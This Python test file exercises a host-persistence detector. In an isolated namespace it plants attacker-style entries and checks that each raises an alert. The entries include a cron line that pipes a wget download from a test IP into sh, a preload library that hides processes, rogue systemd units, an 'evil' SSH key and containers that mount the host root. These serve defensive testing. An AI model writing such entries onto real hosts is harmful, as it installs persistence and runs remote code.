#!/usr/bin/env python3
"""host.persistence: each kind of file written for real, in this test's own mount namespace; beside them what must be told as info
or not at all. And containers that hold the host."""

import os
import sys

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
from pvtest import *  # noqa: E402,F403

KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJustATestKeyThatOpensNothing0000000000000 evil@example"


def own_places():
    """/etc as a copy, the rest empty: nothing of the machine's is written to."""
    world()
    if os.path.isdir("/run/pv/etc"):
        return
    os.makedirs("/run/pv/etc")
    sh("cp", "-a", "/etc/.", "/run/pv/etc")
    sh("mount", "--bind", "/run/pv/etc", "/etc")
    for path in ("/root", "/home", "/var/spool/cron"):
        os.makedirs(path, exist_ok=True)
        sh("mount", "-t", "tmpfs", "-o", "mode=755", "none", path)
    for path in ("/home/anna", "/var/spool/cron/crontabs", "/etc/cron.d", "/etc/cron.daily", "/etc/systemd/system/shop.service.d", "/etc/profile.d"):
        os.makedirs(path, exist_ok=True)


def put(path, text, mode="w"):
    with open(path, mode) as f:
        f.write(text)


def package(path, line):
    """What dpkg does, with a data base of its own."""
    tree, db = "/run/pv/deb", "/run/pv/dpkg"
    os.makedirs(f"{tree}/DEBIAN")
    os.makedirs(f"{tree}{os.path.dirname(path)}")
    put(f"{tree}/DEBIAN/control", "Package: pvcron\nVersion: 1\nArchitecture: all\nMaintainer: a <a@example.org>\nDescription: a\n")
    put(tree + path, line + "\n")
    put(f"{tree}/DEBIAN/postinst", "#!/bin/sh\nsleep 0.7\n")  # most packages take longer than a look
    os.chmod(f"{tree}/DEBIAN/postinst", 0o755)
    sh("dpkg-deb", "-b", "--root-owner-group", tree, "/run/pv/pvcron.deb")
    for d in ("info", "updates"):
        os.makedirs(f"{db}/{d}")
    for f in ("status", "available"):
        put(f"{db}/{f}", "")
    sh("dpkg", f"--admindir={db}", "-i", "/run/pv/pvcron.deb")


def test_files(tap):
    own_places()
    put("/etc/cron.d/own", "# mine\n0 4 * * * root /usr/local/bin/backup\n")
    put("/root/.bashrc", "alias ll='ls -l'\n")

    def told(g, path, line, **want):
        n = g.wait_notice("host.persistence", path, where=lambda n: line in str(n["detail"]["evidence"]) or line in n["detail"]["what"])
        if tap.ok(n, f"{path}: told, with what came", [(x["subject"], x["detail"]) for x in g.notices("host.persistence")][-3:] or g.log(5)):
            tap.eq({k: n[k] for k in want}, want, f"{path}: {want}")
        return n or {"detail": {"evidence": []}}
    with Guard() as g:
        time.sleep(0.3)  # what stands there is read
        for path, line in (("/etc/crontab", "* * * * * root wget -q -O - http://203.0.113.9/x.sh | sh"),
                           ("/etc/cron.d/own", "* * * * * root /tmp/.x/kworkerd"),
                           ("/etc/cron.daily/pwnrig", "exec /bin/-bash"),
                           ("/var/spool/cron/crontabs/root", "@reboot /root/.cache/x"),
                           ("/etc/systemd/system/bot.service", "ExecStart=/etc/libsystem"),
                           ("/etc/systemd/system/bot.timer", "OnUnitActiveSec=60"),
                           ("/etc/systemd/system/shop.service.d/x.conf", "ExecStartPre=/tmp/x"),
                           ("/etc/ld.so.preload", "/usr/local/lib/libprocesshider.so"),
                           ("/root/.bashrc", "nohup /tmp/.x/run &"),
                           ("/etc/profile.d/x.sh", "/tmp/.x/run"),
                           ("/etc/rc.local", "/tmp/.x/run")):
            put(path, line + "\n", "a")
            n = told(g, path, line[:20], severity="high", action="alerted")
            if path == "/etc/ld.so.preload":
                os.unlink(path)
            who = [e["value"] for e in n["detail"]["evidence"] if e["what"] == "written by"]
            tap.ok(who and f"pid {os.getpid()})" in who[0], f"{path}: who wrote it", who)
        os.mkdir("/home/anna/.ssh")
        put("/home/anna/.ssh/authorized_keys", KEY + "\n")
        told(g, "/home/anna/.ssh/authorized_keys", "evil@example", severity="high")
        put("/etc/cron.d/.new", "@hourly root /tmp/y\n")
        os.rename("/etc/cron.d/.new", "/etc/cron.d/own")  # as editors do
        told(g, "/etc/cron.d/own", "@hourly root /tmp/y", severity="high")
        os.symlink("/tmp/z", "/etc/cron.d/link")
        told(g, "/etc/cron.d/link", "symbolic link")
        put("/etc/cron.d/secret", "0 1 * * * root mysqldump --password=Kx93hfLs02mQp7aa shop\n")
        n = told(g, "/etc/cron.d/secret", "mysqldump")
        tap.ok("Kx93hfLs02mQp7aa" not in str(n), "a password in it is masked", n)
        # by a package manager, and by one that only calls itself so
        package("/etc/cron.d/pvcron", "5 5 * * * root /usr/bin/true")
        told(g, "/etc/cron.d/pvcron", "/usr/bin/true", severity="info")
        shutil.copy("/bin/sh", "/run/pv/bin-dpkg")
        os.rename("/run/pv/bin-dpkg", "/run/pv/apt-get")
        sh("/run/pv/apt-get", "-c", "echo '@daily root /tmp/w' > /etc/cron.d/liar; sleep 0.5; true")
        told(g, "/etc/cron.d/liar", "@daily root /tmp/w", severity="high")
        # twins
        before = len(g.notices("host.persistence"))
        put("/etc/cron.d/own", "# said otherwise\n@hourly   root /tmp/y\n".replace("   ", " "))
        put("/root/.bashrc", "nohup /tmp/.x/run &\nalias ll='ls -l'\n")  # the same lines
        put("/etc/cron.d/own~", "@daily root /tmp/v\n")
        put("/etc/cron.d/.own.swp", "@daily root /tmp/v\n")
        os.makedirs("/etc/cron.other")
        put("/etc/cron.other/x", "@daily root /tmp/v\n")
        put("/root/notes", "* * * * * root x\n")
        put("/home/anna/.ssh/known_hosts", KEY + "\n")
        put("/etc/cron.d/last", "@daily root /tmp/last\n")
        told(g, "/etc/cron.d/last", "/tmp/last")
        tap.eq(len(g.notices("host.persistence")), before + 1, "the same lines, copies of editors, other folders: nothing is told")



def test_containers(tap):
    """The engine's socket, and folders of the host, in the hands of a container that nobody has seen."""
    own_places()
    for path in ("/root/.ssh", "/home/anna/shop"):
        os.makedirs(path, exist_ok=True)
    with Dockerd() as d:
        d.run("sleep 1000", name="before", Binds=["/root:/host"])
        with Guard(d) as g:
            d.run("sleep 1000", name="key", Binds=["/:/host"])
            d.run("sleep 1000", name="proxy", Binds=["/var/run/docker.sock:/var/run/docker.sock:ro"])
            d.run("sleep 1000", name="site", Binds=["/etc/localtime:/etc/localtime:ro", "/run/pv/g:/data", "/etc:/host-etc:ro", "/home/anna/shop:/app"])
            for name, what in (("key", "began with / of the host"), ("proxy", "began with the container engine's socket")):
                n = g.wait_notice("host.persistence", name)
                tap.ok(n and n["detail"]["what"].startswith(what) and n["severity"] == "high" and n["action"] == "alerted", f"{name}: {what}", n)
            d.run("true", name="last", Binds=["/root/.ssh:/x"])
            tap.ok(g.wait_notice("host.persistence", "last"), "a short one, too", g.log(5))
            tap.eq([n["detail"]["what"] for c in ("before", "site") for n in g.notices("host.persistence", c)], [],
                   "one from before the guard, and one with a time zone and its own folders: nothing")


main(test_files, test_containers)
